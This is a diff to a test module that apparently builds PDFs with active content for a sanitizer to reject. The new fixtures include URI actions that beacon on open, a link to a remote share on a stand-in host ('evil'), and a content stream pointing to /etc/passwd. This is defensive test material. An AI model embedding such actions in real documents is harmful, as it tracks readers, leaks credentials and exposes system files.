@@ -158,6 +158,22 @@ def _next_act(document: pikepdf.Pdf) -> None:
     document.pages[0].obj.AA = Dictionary(O=Dictionary(S=Name.GoTo, D=Array([0, Name.Fit]), Next=later))
 
 
+def _page_calls(document: pikepdf.Pdf) -> None:
+    document.pages[0].obj.AA = Dictionary(O=Dictionary(S=Name.URI, URI=String("https://example.org/seen")))
+
+
+def _calls_after(document: pikepdf.Pdf) -> None:
+    later = Array([Dictionary(S=Name.URI, URI=String("https://example.org/seen"))])
+    document.Root.OpenAction = Dictionary(S=Name.GoTo, D=Array([0, Name.Fit]), Next=later)
+
+
+def _external(document: pikepdf.Pdf) -> None:
+    """Say of a page's contents that they are in another file."""
+    content = document.make_stream(b"")
+    content.stream_dict.F = Dictionary(Type=Name.Filespec, F=String("/etc/passwd"))
+    document.pages[0].obj.Contents = content
+
+
 def active_pdfs() -> dict[str, tuple[bytes, str]]:
     """Return PDFs that do something, each with the reason it must be refused for."""
     return {
@@ -176,6 +192,14 @@ def active_pdfs() -> dict[str, tuple[bytes, str]]:
         "submit": (pdf(1, _act(S=Name.SubmitForm, F=String("https://example.org/take"))), "sends"),
         "import": (pdf(1, _act(S=Name.ImportData, F=String("x.fdf"))), "sends"),
         "xfa": (pdf(1, _interactive), "form_program"),
+        "opens_address": (pdf(1, _act(S=Name.URI, URI=String("https://example.org/seen"))), "acts"),
+        "page_calls_address": (pdf(1, _page_calls), "acts"),
+        "calls_after_a_place": (pdf(1, _calls_after), "acts"),
+        "link_calls_address": (pdf(1, _annotation(Subtype=Name.Link, AA=Dictionary(
+            E=Dictionary(S=Name.URI, URI=String("https://example.org/seen"))))), "acts"),
+        "other_machine": (pdf(1, _annotation(Subtype=Name.Link, A=Dictionary(
+            S=Name.GoToR, F=String("\\\\evil\\share\\x.pdf"), D=Array([0, Name.Fit])))), "outside"),
+        "other_file": (pdf(1, _external), "outside"),
         "locked": (pdf(1, encryption=pikepdf.Encryption(user="secret", owner="other")), "locked"),
     }  # fmt: skip
 
